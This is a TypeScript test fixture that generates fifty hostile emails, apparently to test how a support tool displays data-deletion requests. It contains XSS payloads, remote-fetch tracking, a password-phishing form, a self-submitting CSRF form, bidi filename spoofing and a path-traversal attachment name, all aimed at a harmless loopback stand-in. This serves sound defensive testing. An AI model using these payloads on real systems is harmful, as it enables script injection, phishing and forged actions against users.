// Fifty messages that try to do something to whoever reads them in a browser: markup, addresses to fetch, characters that lie.

export interface HostileMessage {
  /** What it tries; no two alike. */
  readonly name: string;
  raw(at: Temporal.Instant): Uint8Array;
}

/** Where remote content would come from; nothing listens there. */
const remote = 'http://127.0.0.1:9/x';
const alarm = "hostile('ran')";

/** HTML bodies, each a way to run something, to fetch something, or to lead somebody away. */
const bodies: Readonly<Record<string, string>> = {
  script: `<script>${alarm}</script>`,
  'script from elsewhere': `<script src="${remote}.js"></script>`,
  'script in a broken tag': `<scr<script>ipt>${alarm}</scr</script>ipt>`,
  'upper case script': `<SCRIPT\n>${alarm}</SCRIPT >`,
  'image that fails': `<img src=x onerror="${alarm}">`,
  'image from elsewhere': `<img src="${remote}.png" width="1" height="1">`,
  'image set': `<img srcset="${remote}-1.png 1x, ${remote}-2.png 2x"><picture><source srcset="${remote}-3.png"></picture>`,
  'image that is lazy': `<img loading="lazy" src="${remote}-lazy.png">`,
  'background attribute': `<table background="${remote}-bg.png"><tr><td background="${remote}-td.png">x</td></tr></table>`,
  'background in a style': `<div style="background:url('${remote}-style.png')">x</div>`,
  'style sheet': `<style>body{background:url(${remote}-sheet.png)}@import url("${remote}-import.css");</style>`,
  'style sheet from elsewhere': `<link rel="stylesheet" href="${remote}.css">`,
  'font from elsewhere': `<style>@font-face{font-family:x;src:url(${remote}.woff2)}p{font-family:x}</style><p>x</p>`,
  'style with an escape': `<div style="background:u\\72l(${remote}-esc.png)">x</div>`,
  'prefetch and preconnect': `<link rel="prefetch" href="${remote}-pre"><link rel="dns-prefetch" href="//127.0.0.1:9"><link rel="preconnect" href="${remote}">`,
  'svg that runs': `<svg onload="${alarm}"><circle r="9"/></svg>`,
  'svg with a script': `<svg><script>${alarm}</script></svg>`,
  'svg with an image': `<svg><image href="${remote}-svg.png"/><use href="${remote}.svg#x"/></svg>`,
  'svg animation': `<svg><a><animate attributeName="href" values="javascript:${alarm}"/><text y="20">klik</text></a></svg>`,
  'svg foreign object': `<svg><foreignObject><iframe src="${remote}-fo"></iframe></foreignObject></svg>`,
  mathml: `<math><mtext><table><mglyph><style><img src=x onerror="${alarm}"></style></mglyph></table></mtext></math>`,
  frame: `<iframe src="${remote}-frame"></iframe>`,
  'frame with a document': `<iframe srcdoc="<script>parent.${alarm}</script>"></iframe>`,
  object: `<object data="${remote}.swf"></object><embed src="${remote}-embed.swf">`,
  'video and audio': `<video src="${remote}.mp4" poster="${remote}-poster.png" autoplay></video><audio src="${remote}.mp3" autoplay></audio>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${remote}-refresh">`,
  'policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>${alarm}</script>`,
  base: `<base href="${remote}/"><img src="relative.png"><a href="go">x</a>`,
  form: `<form action="${remote}-form" method="post"><input name="wachtwoord" autofocus onfocus="${alarm}"><button>Log in</button></form>`,
  'form that submits itself': `<form id="f" action="/cases/x/approve" method="post"></form><script>document.forms.f.submit()</script>`,
  'link that runs': `<a href="javascript:${alarm}">klik</a>`,
  'link that hides': `<a href="&#106;avascript&colon;${alarm}" target="_top">klik</a>`,
  'link with a ping': `<a href="${remote}-link" ping="${remote}-ping" target="_blank">klik</a>`,
  'data page': `<a href="data:text/html,<script>${alarm}</script>">klik</a><iframe src="data:text/html,<script>${alarm}</script>"></iframe>`,
  'every handler': `<div onmouseover="${alarm}" onpointerenter="${alarm}" style="position:fixed;inset:0">x</div><details open ontoggle="${alarm}">x</details>`,
  'body handlers': `<body onload="${alarm}" onpageshow="${alarm}" background="${remote}-body.png">x</body>`,
  'cover of the page': '<div style="position:fixed;inset:0;z-index:99999;background:white;width:5000px">Uw sessie is verlopen</div>',
  template: `<template><script>${alarm}</script></template><noscript><img src="${remote}-noscript.png"></noscript>`,
  'custom element': `<x-y style="animation:a 1s" onanimationstart="${alarm}"></x-y><style>@keyframes a{from{left:0}}</style>`,
  'htmx of its own': `<div hx-get="${remote}-hx" hx-trigger="load">x</div><div hx-on:htmx:load="${alarm}" data-hx-post="/sign-out" data-hx-trigger="load">x</div>`,
  'unclosed comment': `<!--><script>${alarm}</script>--><p>x`,
  'text area that ends early': `</textarea></pre></div></main><script>${alarm}</script>`,
  'a page many elements deep': `${'<div>'.repeat(2_000)}diep${'</div>'.repeat(2_000)}`,
};

/** Plain messages: header fields and text that lie, or are far too much. */
const texts: Readonly<Record<string, { readonly subject: string; readonly from: string; readonly text: string }>> = {
  'markup in every field': {
    subject: `<img src=x onerror="${alarm}"><script>${alarm}</script>`,
    from: `"<svg onload=${alarm}>" <a@elders.example>`,
    text: `<script>${alarm}</script>\n<img src="${remote}-text.png">`,
  },
  'text that turns round': {
    subject: 'Verwijder \u202Egpj.exe\u202C mijn gegevens',
    from: '"\u202Ednalrev\u202C" <b@elders.example>',
    text: '\u2066\u202E.teg tsmedeog ed si tiD\u202C\u2069\u200B\u200B\uFEFF wis \u2028 \u2029 alles',
  },
  'a word as wide as a street': { subject: 'W'.repeat(900), from: 'c@elders.example', text: `${'m'.repeat(20_000)} weg` },
  'marks on marks': { subject: 'Zalgo', from: 'd@elders.example', text: `Z${'\u0301\u0316'.repeat(2_000)} wis mijn gegevens` },
  'a million letters': { subject: 'Lang', from: 'e@elders.example', text: 'Verwijder mijn gegevens. '.repeat(40_000) },
  'control characters': {
    subject: 'Stuur \u0007\u001b[31m een kopie',
    from: 'f@elders.example',
    text: 'een\u0000twee\u0008drie\u001b]0;x\u0007 \uFFFE \uD83D',
  },
};

function header(subject: string, from: string, at: Temporal.Instant, id: number): string {
  return [
    `From: ${from}`,
    'To: hulp@winkel.example',
    `Subject: =?utf-8?B?${Buffer.from(subject).toString('base64')}?=`,
    `Date: ${new Date(at.epochMilliseconds).toUTCString()}`,
    `Message-ID: <vijand-${id}-${at.epochMilliseconds}@elders.example>`,
    'MIME-Version: 1.0',
  ].join('\r\n');
}

function part(type: string, text: string): string {
  const body = Buffer.from(text).toString('base64').replace(/.{76}/g, '$&\r\n');
  return `Content-Type: ${type}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${body}\r\n`;
}

const asHtml = Object.entries(bodies).map(
  ([name, html], id): HostileMessage => ({
    name,
    raw(at) {
      const words = 'Ik verzoek u mijn account en al mijn gegevens te verwijderen.';
      const alternative = `--b\r\n${part('text/plain', words)}\r\n--b\r\n${part('text/html', `<p>${words}</p>${html}`)}\r\n--b--\r\n`;
      return Buffer.from(
        `${header('Verwijderen', `klant${id}@elders.example`, at, id)}\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n${alternative}`,
      );
    },
  }),
);

const asText = Object.entries(texts).map(
  ([name, { subject, from, text }], id): HostileMessage => ({
    name,
    raw: (at) =>
      Buffer.from(
        `${header(subject, from, at, 100 + id)}\r\n${part('text/plain', `Verwijder mijn account en al mijn gegevens.\n${text}`)}`,
      ),
  }),
);

/** A file whose name and type lie, beside the text. */
const asFile: HostileMessage = {
  name: 'a file that is a page',
  raw(at) {
    const file = `Content-Type: text/html; name="=?utf-8?B?${Buffer.from('../../factuur\u202Efdp.html').toString('base64')}?="\r\nContent-Disposition: inline; filename="../../x\\"><script>${alarm}</script>.html"\r\n\r\n<script>${alarm}</script>\r\n`;
    return Buffer.from(
      `${header('Kopie', 'g@elders.example', at, 200)}\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n${part('text/plain', 'Graag ontvang ik een kopie van alle persoonsgegevens die u van mij heeft.')}\r\n--b\r\n${file}\r\n--b--\r\n`,
    );
  },
};

export const hostileMessages: readonly HostileMessage[] = [...asHtml, ...asText, asFile];
